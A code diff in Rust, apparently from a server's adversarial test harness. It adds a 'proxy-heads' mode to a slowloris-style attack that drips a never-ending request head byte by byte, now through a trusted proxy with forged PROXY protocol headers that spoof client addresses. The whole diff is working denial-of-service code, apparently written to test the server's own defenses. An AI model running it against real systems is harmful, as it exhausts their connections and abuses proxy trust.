@@ -1,4 +1,5 @@
-//! Attacks before `session:hello`: a request head dripped a byte per packet.
+//! Attacks before `session:hello`: a request head dripped a byte per packet, directly or
+//! through a trusted proxy.
 
 use std::sync::Arc;
 use std::time::{Duration, Instant};
@@ -17,19 +18,62 @@ const DRIP_EVERY: Duration = Duration::from_millis(5);
 pub async fn drip(ctx: Arc<Ctx>) {
     let n = ctx.conns.unwrap_or(200);
     let tasks: Vec<_> = (0..n)
-        .map(|i| tokio::spawn(drip_one(ctx.clone(), i)))
+        .map(|i| tokio::spawn(drip_one(ctx.clone(), i, DRIP_EVERY)))
         .collect();
     for t in tasks {
         let _ = t.await;
     }
 }
 
-async fn drip_one(ctx: Arc<Ctx>, i: usize) {
+/// Bytes between two drips of one `proxy-heads` socket.
+const SLOW_EVERY: Duration = Duration::from_millis(100);
+
+/// `proxy-heads`: `--conns` (300) sockets from the trusted proxy's address (`--via`),
+/// each opening with a PROXY protocol v1 header that names a client from `--from` and
+/// `--spread` (as an L4 proxy in front of the server writes it), then dripping a request
+/// head that never ends a byte every 100 ms, reopened when closed. Without `--via`, from
+/// the attacker's own addresses and no PROXY header.
+pub async fn proxy_heads(ctx: Arc<Ctx>) {
+    let n = ctx.conns.unwrap_or(300);
+    let tasks: Vec<_> = (0..n)
+        .map(|i| tokio::spawn(drip_one(ctx.clone(), i, SLOW_EVERY)))
+        .collect();
+    for t in tasks {
+        let _ = t.await;
+    }
+}
+
+/// The socket for dripper `i`: through the proxy (`--via`) with its PROXY header
+/// written, or from source address `i` of `--from`/`--spread`.
+async fn open(ctx: &Ctx, i: usize) -> std::io::Result<tokio::net::TcpStream> {
+    let Some(via) = ctx.via else {
+        return ctx.connect_nth(i).await;
+    };
+    let server: std::net::SocketAddr = ctx.host.parse().map_err(std::io::Error::other)?;
+    let socket = tokio::net::TcpSocket::new_v4()?;
+    socket.bind(std::net::SocketAddr::new(via.into(), 0))?;
+    let mut s = socket.connect(server).await?;
+    let client = ctx
+        .sources
+        .get(i % ctx.sources.len().max(1))
+        .copied()
+        .unwrap_or(std::net::Ipv4Addr::new(10, 66, 0, 1).into());
+    let line = format!(
+        "PROXY TCP4 {client} {} {} {}\r\n",
+        server.ip(),
+        40_000 + i % 20_000,
+        server.port()
+    );
+    s.write_all(line.as_bytes()).await?;
+    Ok(s)
+}
+
+async fn drip_one(ctx: Arc<Ctx>, i: usize, every: Duration) {
     // Start spread over one drip period, not all in the same millisecond.
-    tokio::time::sleep(DRIP_EVERY.mul_f64(i as f64 / 200.0)).await;
+    tokio::time::sleep(every.mul_f64(i as f64 / 200.0)).await;
     while ctx.going() {
         Tally::add(&ctx.tally.conns, 1);
-        let Ok(mut s) = ctx.connect_nth(i).await else {
+        let Ok(mut s) = open(&ctx, i).await else {
             tokio::time::sleep(Duration::from_millis(50)).await;
             continue;
         };
@@ -40,7 +84,7 @@ async fn drip_one(ctx: Arc<Ctx>, i: usize) {
             ctx.target, ctx.host
         );
         let mut bytes = head.into_bytes().into_iter().chain(std::iter::repeat(b'a'));
-        let mut every = tokio::time::interval(DRIP_EVERY);
+        let mut every = tokio::time::interval(every);
         let opened = Instant::now();
         loop {
             every.tick().await;
